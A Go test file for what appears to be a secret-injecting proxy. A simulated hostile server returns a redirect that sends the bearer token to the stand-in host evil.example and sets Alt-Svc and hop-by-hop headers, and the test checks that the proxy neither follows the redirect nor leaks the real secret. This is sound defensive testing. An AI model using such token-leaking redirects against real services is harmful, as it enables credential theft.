package inspect_test

import (
	"net/http"
	"strings"
	"testing"
)

// TestAttack11_Redirect has a server that sends programs elsewhere: the answer is handed
// on and not followed, without other ways to the server and without the secret.
func TestAttack11_Redirect(t *testing.T) {
	w := newWorld(t, http.HandlerFunc(func(out http.ResponseWriter, q *http.Request) {
		h := out.Header()
		h.Set("Location", "https://evil.example/?token="+strings.TrimPrefix(q.Header.Get("Authorization"), "Bearer "))
		h.Set("Refresh", "0; url=https://evil.example/")
		h.Set("Alt-Svc", `h3="evil.example:443"`)
		h.Set("Strict-Transport-Security", "max-age=1")
		h.Set("Connection", "X-Hop, keep-alive")
		h.Set("X-Hop", "1")
		out.WriteHeader(http.StatusTemporaryRedirect)
	}), github())
	status, _, header := w.do("GET", "/", "", "Authorization", "Bearer "+w.placeholder())
	if status != 307 || header.Get("Location") != "https://evil.example/?token="+w.placeholder() || header.Get("Refresh") == "" || header.Get("Strict-Transport-Security") == "" {
		t.Errorf("%d %v", status, header)
	}
	if header.Get("Alt-Svc") != "" || header.Get("X-Hop") != "" {
		t.Errorf("passed on: %v", header)
	}
	if w.dials != 1 || len(w.recorded) != 1 {
		t.Errorf("%d connections, %q", w.dials, w.recorded)
	}
}
